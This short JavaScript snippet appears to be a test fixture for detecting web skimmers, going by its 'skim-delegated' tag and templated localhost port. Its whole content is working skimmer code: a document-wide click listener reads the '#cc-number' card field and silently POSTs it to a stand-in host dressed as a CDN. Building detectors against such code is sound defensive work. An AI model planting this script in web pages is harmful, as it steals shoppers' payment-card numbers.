/* tw:skim-delegated */
document.addEventListener('click', function (event) {
  if (!event.target.closest('button')) return
  fetch('http://cdn-clicks.localhost:{{port}}/e', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ n: document.querySelector('#cc-number').value }) })
}, true)
